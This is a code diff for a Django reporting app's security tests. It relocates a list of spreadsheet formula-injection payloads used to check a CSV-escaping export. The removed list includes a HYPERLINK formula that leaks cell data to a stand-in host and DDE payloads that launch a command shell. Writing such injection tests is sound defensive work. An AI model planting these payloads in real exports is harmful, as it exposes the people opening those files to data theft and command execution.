@@ -11,32 +11,12 @@ from django.utils import timezone
 from reporting.choices import AuditAction, EventKind, Outcome, PersonRole, Risk, Status
 from reporting.models import AuditEntry, CaseEvent, PersonInvolved
 from reporting.records.exports import COLUMNS, FORMULA_TRIGGERS, spreadsheet_safe
-from tests.builders import make_lead
+from tests.builders import FORMULA_PAYLOADS, make_lead
 from tests.security.helpers import verified_login
 
 from .builders import make_case
 
 pytestmark = pytest.mark.django_db
-
-# Payloads from OWASP's CSV-injection page and PayloadsAllTheThings, with the
-# whitespace-first variants spreadsheets trim before evaluating.
-FORMULA_PAYLOADS = [
-    "=1+1",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "   +SUM(A1:A2)",
-    "\u00a0=1+1",
-    "\u3000-1",
-    "＝1+1",
-    "＠SUM(A1)",
-]
 
 
 @pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
